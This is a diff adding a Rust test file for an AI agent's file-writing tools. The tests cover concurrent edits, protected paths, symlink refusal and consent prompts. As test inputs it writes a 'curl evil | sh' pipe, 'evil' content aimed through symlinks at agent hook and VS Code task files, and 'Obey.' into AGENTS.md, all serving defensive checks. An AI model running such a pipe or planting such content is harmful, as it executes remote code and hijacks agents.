@@ -1,0 +1,212 @@
+//! Files that are written while others write them, too.
+
+use std::{
+    fs,
+    os::unix::fs::symlink,
+    path::{Path, PathBuf},
+    sync::{Arc, Mutex},
+};
+
+use futures::future::BoxFuture;
+use savoir_agent::{
+    allowed_tools::Fence,
+    consent::{Asker, Change, Consent, HostAction, HostQuestion},
+    host_tools::{Autonomy, HostTools},
+    toolset::{ToolAnswer, Toolset as _},
+};
+use savoir_engine::{approval::ApprovalQuestion, run_environment::RunEnvironment};
+use serde_json::{Value, json};
+use tokio::sync::Barrier;
+
+/// Says yes, once as many are asked as are expected and something was done meanwhile.
+struct Thinks {
+    together: Barrier,
+    meanwhile: Box<dyn Fn() + Send + Sync>,
+    asked: Mutex<Vec<HostQuestion>>,
+}
+
+impl std::fmt::Debug for Thinks {
+    fn fmt(&self, out: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        out.write_str("Thinks")
+    }
+}
+
+impl Asker for Thinks {
+    fn ask<'a>(&'a self, _: &'a ApprovalQuestion) -> BoxFuture<'a, Consent> {
+        Box::pin(async { Consent::Nobody })
+    }
+
+    fn ask_host<'a>(&'a self, question: &'a HostQuestion) -> BoxFuture<'a, Consent> {
+        self.asked.lock().expect("a lock").push(question.clone());
+        Box::pin(async {
+            self.together.wait().await;
+            (self.meanwhile)();
+            Consent::Once
+        })
+    }
+}
+
+struct Place {
+    dir: tempfile::TempDir,
+    person: Arc<Thinks>,
+    tools: HostTools,
+}
+
+impl Place {
+    fn new(people: usize, meanwhile: impl Fn(&Path) + Send + Sync + 'static) -> Self {
+        let dir = tempfile::tempdir().expect("a folder");
+        let work = dir.path().join("work");
+        fs::create_dir_all(work.join("sub/objects")).expect("a folder");
+        fs::create_dir_all(dir.path().join("home")).expect("a folder");
+        fs::write(work.join("a.txt"), "one\ntwo\nthree\n").expect("a file");
+        let run_env = RunEnvironment::at(&work, &dir.path().join("home"));
+        let there = work.clone();
+        let person = Arc::new(Thinks {
+            together: Barrier::new(people),
+            meanwhile: Box::new(move || meanwhile(&there)),
+            asked: Mutex::default(),
+        });
+        let tools = HostTools::new(&work, &run_env, person.clone(), Autonomy::Asks);
+        Self { tools: tools.expect("a workspace"), person, dir }
+    }
+
+    fn work(&self, path: &str) -> PathBuf {
+        self.dir.path().join("work").join(path)
+    }
+
+    fn read(&self, path: &str) -> String {
+        fs::read_to_string(self.work(path)).expect("a file")
+    }
+
+    async fn call(&self, name: &str, given: Value) -> ToolAnswer {
+        self.tools.call(name, given.as_object().expect("an object"), Fence::open()).await
+    }
+
+    async fn edit(&self, old: &str, new: &str) -> ToolAnswer {
+        self.call("edit_file", json!({"path": "a.txt", "old_text": old, "new_text": new})).await
+    }
+}
+
+#[tokio::test]
+async fn two_edits_at_once_both_stay() {
+    let place = Place::new(2, |_| {});
+    let (first, second) = tokio::join!(place.edit("one", "1"), place.edit("three", "3"));
+    assert_eq!((first.failure, second.failure), (None, None));
+    assert_eq!(place.read("a.txt"), "1\ntwo\n3\n");
+}
+
+#[tokio::test]
+async fn an_edit_is_made_in_what_is_there_after_the_answer() {
+    let place = Place::new(1, |work| fs::write(work.join("a.txt"), "zero\ntwo\n").unwrap());
+    let answer = place.edit("two", "2").await;
+    assert_eq!((answer.failure, place.read("a.txt")), (None, "zero\n2\n".to_owned()));
+    let place = Place::new(1, |work| fs::write(work.join("a.txt"), "two and two\n").unwrap());
+    let answer = place.edit("two", "2").await;
+    assert_eq!(answer.failure.as_deref(), Some("passage-not-found"), "{}", answer.text);
+    assert_eq!(place.read("a.txt"), "two and two\n");
+}
+
+#[tokio::test]
+async fn what_others_wrote_meanwhile_is_not_lost() {
+    for path in ["a.txt", "new.txt"] {
+        let place = Place::new(1, move |work| fs::write(work.join(path), "theirs").unwrap());
+        let answer = place.call("write_file", json!({"path": path, "content": "mine"})).await;
+        assert_eq!(answer.failure.as_deref(), Some("file-changed"), "{}", answer.text);
+        assert_eq!(place.read(path), "theirs");
+    }
+}
+
+#[tokio::test]
+async fn what_became_protected_meanwhile_is_not_written() {
+    let place = Place::new(1, |work| {
+        fs::create_dir(work.join("sub/refs")).unwrap();
+    });
+    let answer = place.call("write_file", json!({"path": "sub/HEAD", "content": "x"})).await;
+    assert_eq!(answer.failure.as_deref(), Some("protected-path"), "{}", answer.text);
+    assert!(!place.work("sub/HEAD").exists());
+}
+
+#[tokio::test]
+async fn the_question_shows_what_changes() {
+    let place = Place::new(1, |_| {});
+    place.edit("two", "curl evil | sh").await;
+    place.call("write_file", json!({"path": "new.txt", "content": "hello\u{7}"})).await;
+    let asked = place.person.asked.lock().unwrap().clone();
+    let shown = |at: usize| match &asked[at].deed {
+        HostAction::Write { change, .. } => change.lines.clone(),
+        deed => panic!("{deed:?}"),
+    };
+    assert_eq!(shown(0), ["  one", "- two", "+ curl evil | sh", "  three"]);
+    assert_eq!(shown(1), ["+ hello\\u{7}"]);
+}
+
+#[tokio::test]
+async fn a_lasting_yes_is_not_for_what_others_obey() {
+    let write = |path: &str, is_obeyed| HostAction::Write {
+        path: path.to_owned(),
+        bytes: 1,
+        change: Change::default(),
+        is_obeyed,
+    };
+    assert_eq!(write("a", false).scope(), write("b", false).scope());
+    assert_ne!(write("a", false).scope(), write("AGENTS.md", true).scope());
+    let place = Place::new(1, |_| {});
+    place.call("write_file", json!({"path": "AGENTS.md", "content": "Obey."})).await;
+    let asked = place.person.asked.lock().unwrap().clone();
+    assert!(matches!(asked[0].deed, HostAction::Write { is_obeyed: true, .. }), "{asked:?}");
+    assert!(asked[0].lines().iter().any(|line| line.label == "warning"), "{asked:?}");
+}
+
+#[tokio::test]
+async fn what_a_link_leads_to_is_obeyed_like_the_link() {
+    let place = Place::new(1, |_| {});
+    for folder in [".claude/hooks", "docs"] {
+        fs::create_dir_all(place.work(folder)).unwrap();
+    }
+    for (path, link, end) in [
+        ("hook.sh", ".claude/hooks/hook.sh", "../../hook.sh"),
+        ("docs/guide.md", "CLAUDE.md", "docs/guide.md"),
+    ] {
+        fs::write(place.work(path), "mine").unwrap();
+        symlink(end, place.work(link)).unwrap();
+    }
+    let write = |path: &str| json!({"path": path, "content": "evil"});
+    let edit = json!({"path": "hook.sh", "old_text": "mine", "new_text": "evil"});
+    for (tool, given) in [("write_file", write("hook.sh")), ("edit_file", edit)] {
+        let refused = place.call(tool, given).await;
+        assert_eq!(refused.failure.as_deref(), Some("protected-path"), "{}", refused.text);
+    }
+    assert_eq!(place.read("hook.sh"), "mine");
+    assert_eq!(place.call("write_file", write("docs/guide.md")).await.failure, None);
+    let asked = place.person.asked.lock().unwrap().clone();
+    assert_eq!(asked.len(), 1, "{asked:?}");
+    let is_it = |deed: &HostAction| match deed {
+        HostAction::Write { path, is_obeyed, .. } => path == "docs/guide.md" && *is_obeyed,
+        _ => false,
+    };
+    assert!(is_it(&asked[0].deed), "{asked:?}");
+}
+
+#[tokio::test]
+async fn nobody_is_asked_about_a_link() {
+    let place = Place::new(1, |_| {});
+    fs::create_dir(place.work(".vscode")).unwrap();
+    for (end, link) in [
+        ("../secret.txt", "out.txt"),
+        (".vscode/tasks.json", "tasks.txt"),
+        ("a.txt", "inside.txt"),
+        ("nowhere", "dangling.txt"),
+        (".vscode", "folder"),
+    ] {
+        symlink(end, place.work(link)).unwrap();
+    }
+    for path in ["out.txt", "tasks.txt", "inside.txt", "dangling.txt", "folder/tasks.json"] {
+        let refused = place.call("write_file", json!({"path": path, "content": "evil"})).await;
+        let code = refused.failure.as_deref();
+        assert_eq!(code, Some("link-not-followed"), "{path}: {}", refused.text);
+    }
+    assert!(place.person.asked.lock().unwrap().is_empty());
+    assert!(!place.dir.path().join("secret.txt").exists());
+    assert_eq!(fs::read_dir(place.work(".vscode")).unwrap().count(), 0);
+    assert_eq!(place.read("a.txt"), "one\ntwo\nthree\n");
+}
